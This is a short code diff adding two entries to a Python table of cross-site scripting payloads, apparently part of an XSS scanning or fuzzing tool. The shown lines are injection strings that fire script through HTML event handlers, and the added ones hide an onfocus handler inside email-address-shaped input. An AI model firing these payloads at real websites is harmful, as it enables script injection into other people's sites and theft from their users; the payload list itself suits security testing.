@@ -85,6 +85,8 @@ TRICKS: dict[str, tuple[str, ...]] = {
         "<style onload=kcn(§)></style>",
         "<link rel=stylesheet href=data:, onload=kcn(§)>",
         "<iframe onload=kcn(§)>",
+        '"onfocus=kcn(§)"@kcn.example',
+        "'onfocus='kcn(§)'@kcn.example",
         "<i style=animation:x onanimationstart=kcn(§)>x</i>",
         "<b/oncontextmenu=kcn(§)//>x",
     ),
